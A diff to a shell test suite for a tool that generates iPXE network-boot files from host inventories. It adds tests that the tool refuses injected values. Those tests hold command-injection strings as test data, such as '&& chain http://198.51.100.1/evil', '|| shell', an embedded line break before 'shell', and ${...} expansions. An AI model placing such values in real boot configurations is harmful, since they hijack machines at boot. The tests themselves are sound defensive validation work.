@@ -29,6 +29,15 @@ setup_file() {
 		> "$BATS_FILE_TMPDIR/make.log" 2>&1 || { cat "$BATS_FILE_TMPDIR/make.log" >&2; return 1; }
 }
 
+# A new O= holding the image already built: machines/ needs the image
+# beside it (make builds it first otherwise), and what is tested here is
+# machines/, so make finds the image up to date instead of building it again.
+image_in() {
+	mkdir -p "$1"
+	cp -a "$OUTDIR/build" "$OUTDIR/$BOARD" "$1/"
+	rm -rf "$1/$BOARD/machines"
+}
+
 teardown_file() {
 	[ -e "$BATS_FILE_TMPDIR/machines-existed" ] || rm -rf "$MACHINES"
 }
@@ -86,6 +95,7 @@ teardown_file() {
 
 @test "two runs produce identical files" {
 	other=$BATS_TEST_TMPDIR/other
+	image_in "$other"
 	run make -C "$TOP" O="$other" BOARD="$BOARD" INVENTORY="$INV" BASE_URL="$BASE" machines
 	assert_success
 	for h in m0000 m0333 m0999; do
@@ -99,6 +109,7 @@ teardown_file() {
 
 @test "bad rows: each reported once with its line, the good ones still written, exit 1" {
 	out=$BATS_TEST_TMPDIR/bad
+	image_in "$out"
 	cat > "$BATS_TEST_TMPDIR/bad.csv" <<-'CSV'
 	hostname,ipv4,ipv4_gateway
 	good1.example.org,192.0.2.2/28,192.0.2.1
@@ -117,11 +128,66 @@ teardown_file() {
 	assert_line --partial "mkmachines: $BATS_TEST_TMPDIR/bad.csv:7: hostname \"good1.example.org\": already on line 2"
 	[ "$(printf '%s\n' "${lines[@]}" | grep -c ': fathom\.\|already on')" = 3 ]
 	run ls "$out/$BOARD/machines"
-	assert_output "$(printf 'SHA256SUMS\nSHA256SUMS.sig\ngood1.example.org\ngood2.example.org\ngood3.example.org')"
+	assert_output "$(printf 'IMAGE\nSHA256SUMS\nSHA256SUMS.sig\ngood1.example.org\ngood2.example.org\ngood3.example.org')"
 	run cut -d' ' -f3 "$out/$BOARD/machines/SHA256SUMS"
-	assert_output "$(for h in good1 good2 good3; do printf '%s\n' "$h.example.org/boot.ipxe" \
+	assert_output "$(echo IMAGE; for h in good1 good2 good3; do printf '%s\n' "$h.example.org/boot.ipxe" \
 		"$h.example.org/config.cpio" "$h.example.org/network.conf"; done)"
+	# Bound to the image built beside it.
+	run cat "$out/$BOARD/machines/IMAGE"
+	assert_output "$(cd "$out/$BOARD" && sha256sum SHA256SUMS)"
 	grep -qx 'ipv4=192.0.2.2/28,192.0.2.1' "$out/$BOARD/machines/good1.example.org/network.conf"
+}
+
+@test "iPXE commands in a row are refused with line and column, nothing written for that machine, exit 1" {
+	out=$BATS_TEST_TMPDIR/inj
+	printf '%s\n' 'hostname,ipv4,ipv4_dns,extra' \
+		'ok1.example.org,192.0.2.2/28,192.0.2.53;192.0.2.54,fathom.mtu=9000' \
+		'inj1.example.org,192.0.2.3/28,,fathom.mtu=9000 && chain http://198.51.100.1/evil' \
+		'inj2.example.org,192.0.2.4/28,,quiet || shell' \
+		'inj3.example.org,192.0.2.5/28,,"quiet' 'shell"' \
+		'inj4.example.org,192.0.2.6/28,,x=${net0/mac}' \
+		'inj5.example.org,192.0.2.7/28,192.0.2.53 && shell,' \
+		'ok2.example.org,192.0.2.8/28,,' > "$BATS_TEST_TMPDIR/inj.csv"
+	run "$OUTDIR/build/host/mkmachines" -o "$out" -b "$BASE" -c "console=ttyS0" "$BATS_TEST_TMPDIR/inj.csv"
+	assert_failure 1
+	f=$BATS_TEST_TMPDIR/inj.csv
+	assert_line "mkmachines: $f:3: extra: \"fathom.mtu=9000 && chain http://198.51.100.1/evil\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
+	assert_line "mkmachines: $f:4: extra: \"quiet || shell\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
+	assert_line "mkmachines: $f:5: extra: \"quiet?shell\": must not contain control characters: a line break would end the iPXE command"
+	assert_line "mkmachines: $f:7: extra: \"x=\${net0/mac}\": must not contain '\$': iPXE expands \${...}"
+	assert_line "mkmachines: $f:8: ipv4_dns: \"192.0.2.53 && shell\": must not contain '&', '|' or ';': iPXE chains commands with &&, || and ;"
+	assert_line "mkmachines: $f: 5 bad rows; wrote the other 2 machines"
+	run ls "$out"
+	assert_output "$(printf 'ok1.example.org\nok2.example.org')"
+	run grep -c '&&\|shell\|net0/mac' "$out/ok1.example.org/boot.ipxe"
+	assert_output 0
+	grep -q '^kernel .* fathom.ipv4=192.0.2.2/28,,192.0.2.53,192.0.2.54 fathom.mtu=9000 console=ttyS0 || goto failed$' \
+		"$out/ok1.example.org/boot.ipxe"
+}
+
+@test "a board CMDLINE with a line break (two CMDLINE= lines) is refused naming -c, nothing written or signed, exit 2" {
+	board=$BATS_TEST_TMPDIR/board
+	mkdir -p "$board"
+	printf '%s\n' 'CMDLINE=console=ttyS0 quiet' 'CMDLINE=shell' > "$board/board.conf"
+	key=$(dirname "$("$TOP/scripts/keys")")/fathom.key
+	out=$BATS_TEST_TMPDIR/cmd
+	mkdir -p "$out"
+	cp "$OUTDIR/$BOARD/SHA256SUMS" "$out/"
+	run env MKMACHINES="$OUTDIR/build/host/mkmachines" SIGNING_KEY="$key" \
+		"$TOP/scripts/machines" "$board" "$out/build" "$out" "$INV" "$BASE"
+	assert_failure 2
+	assert_line "mkmachines: -c CMDLINE (the board's CMDLINE, board.conf): \"console=ttyS0 quiet?shell\": must not contain control characters: a line break would end the iPXE command"
+	[ ! -e "$out/machines" ]
+	for c in 'quiet && shell' 'quiet #' 'a=${x}' 'quiet \'; do
+		run "$OUTDIR/build/host/mkmachines" -o "$out/direct" -b "$BASE" -c "$c" "$INV"
+		assert_failure 2
+		assert_output --partial "mkmachines: -c CMDLINE (the board's CMDLINE, board.conf): \"$c\": must not contain"
+		[ ! -e "$out/direct" ]
+	done
+	run "$OUTDIR/build/host/mkmachines" -o "$out/direct" -b 'http://192.0.2.1/${x}' "$INV"
+	assert_failure 2
+	assert_output --partial "mkmachines: -b BASE_URL: \"http://192.0.2.1/\${x}\": must not contain '\$'"
+	[ ! -e "$out/direct" ]
 }
 
 @test "a JSON inventory gives the same files as the same CSV" {
@@ -134,6 +200,8 @@ teardown_file() {
 	printf '%s\n' 'hostname,ipv4,ipv4_gateway,ipv6,extra,mac' \
 		'j1.example.org,203.0.113.2/29,203.0.113.1,2001:db8:77::2/64,fathom.mtu=9000,' \
 		'j2.example.org,203.0.113.3/29,,,,52:54:00:aa:bb:cc' > "$BATS_TEST_TMPDIR/same.csv"
+	image_in "$out"
+	image_in "$out.csv"
 	run make -C "$TOP" O="$out" BOARD="$BOARD" INVENTORY="$BATS_TEST_TMPDIR/fleet.json" \
 		BASE_URL="$BASE" machines
 	assert_success
@@ -144,6 +212,16 @@ teardown_file() {
 	assert_success
 	grep -qx 'mtu=9000' "$out/$BOARD/machines/j1.example.org/network.conf"
 	grep -q 'set net0/netmask 255.255.255.248' "$out/$BOARD/machines/j2.example.org/boot.ipxe"
+}
+
+@test "scripts/machines without the image beside it says to build it first, writes nothing" {
+	key=$(dirname "$("$TOP/scripts/keys")")/fathom.key
+	out=$BATS_TEST_TMPDIR/noimage
+	run env MKMACHINES="$OUTDIR/build/host/mkmachines" SIGNING_KEY="$key" \
+		"$TOP/scripts/machines" "$TOP/boards/$BOARD" "$out/build" "$out" "$INV" "$BASE"
+	assert_failure 1
+	assert_output --partial "make machines: $out/SHA256SUMS: missing; build the image first (make)"
+	[ ! -e "$out/machines" ]
 }
 
 @test "make machines without INVENTORY or BASE_URL says what to set" {
